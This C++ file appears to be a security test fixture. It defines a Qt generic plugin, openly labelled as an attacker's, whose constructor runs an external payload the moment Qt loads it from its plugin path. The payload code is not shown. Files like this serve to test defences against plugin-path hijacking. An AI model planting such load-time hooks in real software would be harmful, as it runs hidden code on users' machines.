// SPDX-License-Identifier: LGPL-2.1-or-later
// A Qt generic plugin ("evilgeneric") of an attacker's: loaded, it runs the
// payload. Qt loads it for QT_QPA_GENERIC_PLUGINS or -plugin when it finds it
// on its plugin path.
#include <QGenericPlugin>

#include "payload.h"

class EvilGenericPlugin : public QGenericPlugin {
    Q_OBJECT
    Q_PLUGIN_METADATA(IID QGenericPluginFactoryInterface_iid FILE "evil_generic_plugin.json")

public:
    QObject *create(const QString &, const QString &) override { return nullptr; }
};

__attribute__((constructor)) static void whenLoaded() { runAttackerPayload("generic plugin"); }

#include "evil_generic_plugin.moc"
